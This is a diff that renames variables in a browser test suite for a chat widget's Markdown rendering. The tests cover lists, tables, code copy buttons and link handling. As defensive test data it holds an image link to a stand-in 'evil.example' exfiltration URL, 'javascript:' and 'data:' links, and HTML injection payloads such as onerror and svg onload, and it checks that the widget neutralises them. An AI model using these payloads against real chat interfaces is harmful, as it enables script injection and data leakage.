@@ -14,21 +14,21 @@ async function openChat(): Promise<Chat> {
   return chat;
 }
 
-/** The element with the answer, once it is complete. */
+/** Returns the element with the answer when it is complete. */
 async function answer(markdown: string): Promise<HTMLElement> {
   const chat = await openChat();
-  const { question } = await scriptAnswer({ pieces: [markdown] });
+  const { question } = await scriptAnswer({ chunks: [markdown] });
   await chat.ask(question);
   await chat.answered(1);
-  await until(() => chat.find('.markdown') !== null, 'the answer to be drawn as Markdown');
+  await until(() => chat.find('.markdown') !== null, 'the answer to be rendered as Markdown');
   return chat.find('.markdown') as HTMLElement;
 }
 
-function count(drawn: Element, selector: string): number {
-  return drawn.querySelectorAll(selector).length;
+function count(rendered: Element, selector: string): number {
+  return rendered.querySelectorAll(selector).length;
 }
 
-/** Scrolls what has the focus, by keyboard, and back. */
+/** Scrolls the focused element by keyboard, and back. */
 async function scrollByKey(scroller: HTMLElement): Promise<void> {
   expect(scroller.scrollWidth, 'there is something to scroll').to.be.above(scroller.clientWidth);
   scroller.focus();
@@ -48,7 +48,7 @@ describe('an answer in Markdown', () => {
   });
 
   it('has headings, emphasis, lists, quotes, rules and breaks', async () => {
-    const drawn = await answer(
+    const rendered = await answer(
       '# One\n## Two\n\nSome **bold**, *italic*, ~~gone~~ and `code`.\nNext line.\n\n- a\n- b\n  1. c\n\n3. three\n4. four\n\n> quote\n\n---\n\n- [x] done\n- [ ] open',
     );
     const found = [
@@ -65,9 +65,9 @@ describe('an answer in Markdown', () => {
       'blockquote',
       'hr',
     ];
-    for (const selector of found) expect(count(drawn, selector), selector).to.be.at.least(1);
-    expect(drawn.querySelector<HTMLOListElement>('ol[start="3"] > li')?.innerText).to.equal('three');
-    const boxes = [...drawn.querySelectorAll<HTMLInputElement>('input')].map(({ checked, disabled }) => [
+    for (const selector of found) expect(count(rendered, selector), selector).to.be.at.least(1);
+    expect(rendered.querySelector<HTMLOListElement>('ol[start="3"] > li')?.innerText).to.equal('three');
+    const boxes = [...rendered.querySelectorAll<HTMLInputElement>('input')].map(({ checked, disabled }) => [
       checked,
       disabled,
     ]);
@@ -75,25 +75,25 @@ describe('an answer in Markdown', () => {
       [true, true],
       [false, true],
     ]);
-    expect(drawn.innerText).not.to.match(/\*\*|~~|\[x\]/);
+    expect(rendered.innerText).not.to.match(/\*\*|~~|\[x\]/);
   });
 
   it('scrolls wide tables within the message', async () => {
     const wide = Array.from({ length: 12 }, (_, index) => `A long column ${index}`);
-    const drawn = await answer(`| ${wide.join(' | ')} |\n|${':-:|'.repeat(12)}\n| ${wide.join(' | ')} |`);
-    expect([count(drawn, 'thead th'), count(drawn, 'tbody td')]).to.deep.equal([12, 12]);
-    const table = drawn.querySelector('.table') as HTMLElement;
+    const rendered = await answer(`| ${wide.join(' | ')} |\n|${':-:|'.repeat(12)}\n| ${wide.join(' | ')} |`);
+    expect([count(rendered, 'thead th'), count(rendered, 'tbody td')]).to.deep.equal([12, 12]);
+    const table = rendered.querySelector('.table') as HTMLElement;
     expect(table.scrollWidth).to.be.above(table.clientWidth);
-    const log = drawn.closest('[role="log"]') as HTMLElement;
+    const log = rendered.closest('[role="log"]') as HTMLElement;
     expect(log.scrollWidth).to.equal(log.clientWidth);
     expect([table.role, table.ariaLabel]).to.deep.equal(['region', 'Table']);
     await scrollByKey(table);
   });
 
   it('scrolls long lines of code within the message', async () => {
-    const drawn = await answer(`\`\`\`sh\n${'npm install '.repeat(30)}\n\`\`\``);
-    await scrollByKey(drawn.querySelector('pre') as HTMLElement);
-    const log = drawn.closest('[role="log"]') as HTMLElement;
+    const rendered = await answer(`\`\`\`sh\n${'npm install '.repeat(30)}\n\`\`\``);
+    await scrollByKey(rendered.querySelector('pre') as HTMLElement);
+    const log = rendered.closest('[role="log"]') as HTMLElement;
     expect(log.scrollWidth).to.equal(log.clientWidth);
   });
 
@@ -105,26 +105,26 @@ describe('an answer in Markdown', () => {
     };
     Object.defineProperty(navigator, 'clipboard', { configurable: true, get: () => ({ writeText }) });
     const code = '  if (a < b && c) {\n\n\treturn "**&amp;**";\n  }';
-    const drawn = await answer(`Some \`inline\` code:\n\n\`\`\`js\n${code}\n\`\`\`\n\nDone.`);
-    const button = drawn.querySelector('figure button') as HTMLElement;
+    const rendered = await answer(`Some \`inline\` code:\n\n\`\`\`js\n${code}\n\`\`\`\n\nDone.`);
+    const button = rendered.querySelector('figure button') as HTMLElement;
     await click(button);
-    await until(() => button.innerText === 'Copied', 'the word that it is done');
+    await until(() => button.innerText === 'Copied', 'the confirmation');
     expect(copied).to.deep.equal([code]);
   });
 
   it('shows the language of code and a button that copies it', async () => {
-    const drawn = await answer('```python\nprint("<b>hi</b>")\n```');
-    const figure = drawn.querySelector('figure') as HTMLElement;
+    const rendered = await answer('```python\nprint("<b>hi</b>")\n```');
+    const figure = rendered.querySelector('figure') as HTMLElement;
     expect(figure.querySelector('figcaption span')?.textContent).to.equal('python');
     expect(figure.querySelector('pre')?.innerText.trim()).to.equal('print("<b>hi</b>")');
     expect(figure.querySelector('button')?.innerText).to.equal('Copy');
   });
 
   it('never widens the panel, however long its words are', async () => {
-    const drawn = await answer(
+    const rendered = await answer(
       `**${'w'.repeat(500)}** https://example.com/${'p'.repeat(500)}\n\n\`${'c'.repeat(500)}\``,
     );
-    const log = drawn.closest('[role="log"]') as HTMLElement;
+    const log = rendered.closest('[role="log"]') as HTMLElement;
     expect(log.scrollWidth).to.equal(log.clientWidth);
   });
 
@@ -157,22 +157,22 @@ describe('an answer in Markdown', () => {
   });
 
   it('opens links safely, and only safe ones', async () => {
-    const drawn = await answer(
+    const rendered = await answer(
       '[shop](https://example.com/a) https://example.org www.example.net [bad](javascript:alert(1)) [data](data:text/html,x) <mailto:a@example.com>',
     );
-    const links = [...drawn.querySelectorAll('a')];
+    const links = [...rendered.querySelectorAll('a')];
     expect(links.map(({ protocol }) => protocol)).to.deep.equal(['https:', 'https:', 'http:', 'mailto:']);
     for (const link of links) {
       expect(link.target).to.equal('_blank');
       expect(link.rel).to.contain('noopener').and.to.contain('noreferrer');
     }
-    expect(drawn.innerText).to.contain('bad').and.to.contain('data');
+    expect(rendered.innerText).to.contain('bad').and.to.contain('data');
   });
 
   it('shows images as links, and loads none', async () => {
-    const drawn = await answer('![A map](https://evil.example/collect?secret=1)');
-    expect(count(drawn, 'img')).to.equal(0);
-    expect(drawn.querySelector('a')?.innerText).to.equal('A map');
+    const rendered = await answer('![A map](https://evil.example/collect?secret=1)');
+    expect(count(rendered, 'img')).to.equal(0);
+    expect(rendered.querySelector('a')?.innerText).to.equal('A map');
     expect(performance.getEntriesByType('resource').some(({ name }) => name.includes('evil.example'))).to.be
       .false;
   });
@@ -180,15 +180,15 @@ describe('an answer in Markdown', () => {
   it('shows markup as text', async () => {
     const attack =
       '<img src=x onerror="window.attacked=1">\n\n<script>window.attacked=1</script>\n\ntext <b onclick="x">b</b>\n\n<svg/onload=alert(1)>';
-    const drawn = await answer(`**!**\n\n${attack}`);
-    expect(count(drawn, 'img, script, svg, b')).to.equal(0);
-    expect(drawn.innerText).to.contain('<script>').and.to.contain('onerror');
+    const rendered = await answer(`**!**\n\n${attack}`);
+    expect(count(rendered, 'img, script, svg, b')).to.equal(0);
+    expect(rendered.innerText).to.contain('<script>').and.to.contain('onerror');
     expect('attacked' in window).to.be.false;
   });
 
   it('never shows unclosed markup while it grows', async () => {
     const chat = await openChat();
-    const pieces = [
+    const chunks = [
       'Our **opening',
       wait,
       ' hours** are [here',
@@ -197,15 +197,15 @@ describe('an answer in Markdown', () => {
       wait,
       ' i`.',
     ];
-    const script = await scriptAnswer({ pieces });
+    const script = await scriptAnswer({ chunks });
     await chat.ask(script.question);
     const text = (): string => chat.find('.markdown')?.innerText.trim() ?? '';
-    await until(() => text() === 'Our opening', 'the first piece');
+    await until(() => text() === 'Our opening', 'the first chunk');
     expect(chat.find('.markdown strong')?.innerText).to.equal('opening');
     await script.resume();
-    await until(() => text() === 'Our opening hours are here', 'the second piece');
+    await until(() => text() === 'Our opening hours are here', 'the second chunk');
     await script.resume();
-    await until(() => text() === 'Our opening hours are here. Run npm', 'the third piece');
+    await until(() => text() === 'Our opening hours are here. Run npm', 'the third chunk');
     await script.resume();
     await chat.answered(1);
     expect(text()).to.equal('Our opening hours are here. Run npm i.');
@@ -213,7 +213,7 @@ describe('an answer in Markdown', () => {
 
   it('is announced without Markdown syntax', async () => {
     const chat = await openChat();
-    const { question } = await scriptAnswer({ pieces: ['We **open** at [nine](https://example.com).'] });
+    const { question } = await scriptAnswer({ chunks: ['We **open** at [nine](https://example.com).'] });
     await chat.ask(question);
     await chat.answered(1);
     await until(() => chat.announcement !== '', 'the announcement');
